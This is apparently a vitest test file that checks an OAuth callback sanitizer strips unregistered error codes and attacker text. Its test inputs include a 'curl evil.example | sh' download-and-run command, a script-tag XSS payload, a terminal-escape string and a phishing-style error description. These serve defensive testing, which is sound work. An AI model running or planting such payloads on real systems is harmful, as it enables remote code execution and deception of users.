import { describe, expect, it } from 'vitest';
import {
  REGISTERED_AUTHORIZATION_ERRORS,
  UNREGISTERED_ERROR,
  withRegisteredErrorOnly,
} from '../../../src/core/sign-in/callback-error.ts';

const base = 'http://127.0.0.1:5000/callback?state=s&iss=https%3A%2F%2Fidp.example';

function sanitize(query: string) {
  const lines: string[] = [];
  const logger = { info: (m: string) => lines.push(m), warn: (m: string) => lines.push(m), error: () => {} };
  const url = withRegisteredErrorOnly(new URL(`${base}&${query}`), logger);
  return { params: url.searchParams, log: lines.join('\n') };
}

describe('error text in the callback, from the attacker’s side', () => {
  it('a registered code is kept; error_description and error_uri are dropped, and not logged', () => {
    const { params, log } = sanitize(
      'error=access_denied&error_description=Call+%2B1-555-0100+to+unlock&error_uri=https%3A%2F%2Fevil.example',
    );
    expect(params.get('error')).toBe('access_denied');
    expect(params.has('error_description')).toBe(false);
    expect(params.has('error_uri')).toBe(false);
    expect(params.get('state')).toBe('s');
    expect(params.get('iss')).toBe('https://idp.example');
    expect(log).toBe('');
  });

  it.each([
    ['free text', 'Your account is locked. Run curl evil.example | sh'],
    ['markup', '<script>alert(1)</script>'],
    ['a near miss', 'access_denied '],
    ['a terminal escape', '\u001b[2J\u001b[31mPAY NOW'],
    ['an empty value', ''],
  ])('an unregistered code (%s) becomes server_error, and its text is not logged', (_label, error) => {
    const { params, log } = sanitize(`error=${encodeURIComponent(error)}`);
    expect(params.get('error')).toBe(UNREGISTERED_ERROR);
    expect(log).toContain('not a registered OAuth error');
    if (error !== '') expect(log).not.toContain(error);
  });

  it('a repeated error is not chosen from: it becomes server_error', () => {
    expect(sanitize('error=access_denied&error=Call+me').params.getAll('error')).toEqual([
      UNREGISTERED_ERROR,
    ]);
  });

  it('a success callback is passed on untouched', () => {
    const url = new URL(`${base}&code=abc`);
    expect(withRegisteredErrorOnly(url, { info() {}, warn() {}, error() {} })).toBe(url);
  });

  it('the list is RFC 6749 §4.1.2.1, OIDC Core §3.1.2.6 and RFC 8707 §2, nothing else', () => {
    expect([...REGISTERED_AUTHORIZATION_ERRORS].sort()).toEqual(
      [
        'invalid_request',
        'unauthorized_client',
        'access_denied',
        'unsupported_response_type',
        'invalid_scope',
        'server_error',
        'temporarily_unavailable',
        'interaction_required',
        'login_required',
        'account_selection_required',
        'consent_required',
        'invalid_request_uri',
        'invalid_request_object',
        'request_not_supported',
        'request_uri_not_supported',
        'registration_not_supported',
        'invalid_target',
      ].sort(),
    );
  });
});
